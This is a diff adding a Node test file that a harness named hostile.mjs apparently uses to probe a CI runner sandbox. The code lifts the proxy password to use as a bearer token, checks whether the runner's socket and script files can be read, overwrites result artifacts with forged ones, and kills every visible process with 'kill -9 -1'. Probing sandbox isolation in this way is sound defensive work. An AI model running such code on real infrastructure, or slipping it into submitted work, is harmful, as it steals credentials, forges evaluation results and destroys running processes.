@@ -1,0 +1,26 @@
+// Added as a test by hostile.mjs: it looks for the runner's secret and the gateway's socket, puts forged artifacts, and
+// ends every process it can see. What it found goes to the output, which is evidence.
+import { spawnSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import test from 'node:test';
+
+test('attack', async () => {
+  const gateway = new URL(process.env.npm_config_registry).origin;
+  const headers = { authorization: `Bearer ${new URL(process.env.HTTPS_PROXY).password}` };
+  const found = [];
+  for (const file of ['/run/gw.sock', '/run/runner.mjs', '/proc/1/root/run/gw.sock']) {
+    try {
+      found.push(`${file} ${readFileSync(file).length}`);
+    } catch (error) {
+      found.push(`${file} ${error.code}`);
+    }
+  }
+  for (const path of ['/phase', '/inputs/changeset.json', '/git/base.git/info/refs?service=git-upload-pack'])
+    found.push(`${path} ${(await fetch(gateway + path, { headers })).status}`);
+  for (const name of ['result.json', 'events.ndjson'])
+    found.push(
+      `${name} ${(await fetch(`${gateway}/artifacts/${name}`, { method: 'PUT', body: '{}', headers })).status}`,
+    );
+  console.log(`FOUND ${found.join(', ')}`);
+  spawnSync('bash', ['-c', 'kill -9 -1']);
+});
